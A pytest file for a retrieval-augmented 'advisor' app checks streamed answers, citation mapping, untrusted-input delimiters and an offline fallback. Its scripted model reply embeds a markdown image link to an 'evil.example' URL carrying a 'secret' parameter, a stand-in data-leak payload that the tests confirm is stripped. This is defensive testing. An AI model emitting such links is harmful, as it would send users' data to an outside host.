"""`ask` with a model: streamed through the loopback server, citations mapped to retrieved chunks,
invented ones dropped, remote content neutralised, and the offline answer when the model fails."""

from __future__ import annotations

import pytest

from advisor.capabilities.ask.model import stream_answer
from advisor.config import LLMSettings, Settings
from advisor.llm.models import load_chat_model
from advisor.service.capabilities import Capabilities
from advisor.service.runtime import Runtime
from advisor.text.safety import has_remote_content
from tests.llm_server import FakeOpenAIServer, Fault

QUESTION = "How should our coalition handle conflict between members?"
REPLY = (
    "- Agree on a conflict process before you need it [c1].\n"
    "- Escalate from the parties to a neutral facilitator [c2, c9].\n"
    "- See ![chart](https://evil.example/leak.png?d=secret) and [this](https://evil.example/x)."
)


def model_settings(runtime: Runtime, server: FakeOpenAIServer, **llm: float) -> Settings:
    return Settings(home=runtime.settings.home, llm=LLMSettings(base_url=server.url, **llm))  # type: ignore[arg-type]


def test_a_streamed_answer_cites_only_retrieved_passages(runtime: Runtime) -> None:
    with FakeOpenAIServer().script(REPLY) as server:
        settings = model_settings(runtime, server)
        updates = list(
            stream_answer(
                QUESTION, retriever=runtime.retriever, llm=load_chat_model(settings), settings=settings
            )  # type: ignore[arg-type]
        )
    assert len(updates) > 5  # it arrived in pieces
    assert all(u.final is None for u in updates[:-1])
    final = updates[-1].final
    assert final is not None and final.mode == "llm"
    assert "before you need it [1]." in final.answer and "neutral facilitator [2]." in final.answer
    assert len(final.citations) == 2  # c9 was never retrieved
    passages = runtime.retriever.search(QUESTION)
    assert [c.chunk_id for c in final.citations] == [passages[0].chunk_id, passages[1].chunk_id]
    assert not any(has_remote_content(u.text) for u in updates)
    assert "(image removed: chart)" in final.answer
    prompt = server.requests[0]["messages"][0]["content"]
    assert f"<<<UNTRUSTED question>>>\n{QUESTION}" in prompt and "<<<UNTRUSTED c1 " in prompt


def test_a_failing_model_gives_the_offline_answer_with_a_warning(runtime: Runtime) -> None:
    with FakeOpenAIServer().fail(Fault.http(500), Fault.http(500)) as server:
        settings = model_settings(runtime, server, max_retries=1)
        answer = Capabilities(runtime, llm=load_chat_model(settings), settings=settings).ask(QUESTION)
    assert answer.mode == "offline" and answer.citations
    assert answer.warnings and "could not answer" in answer.warnings[0]


@pytest.mark.parametrize(
    ("text", "remote"),
    [
        ("![x](https://a.example/i.png)", True),
        ('<img src="https://a.example/i.png">', True),
        ("[click](https://a.example)", True),
        ("<https://a.example>", True),
        ("Plain advice with a [1] marker.", False),
    ],
)
def test_remote_content_is_detected_and_neutralised(text: str, remote: bool) -> None:
    from advisor.text.safety import strip_remote_content

    assert has_remote_content(text) is remote
    assert not has_remote_content(strip_remote_content(text))
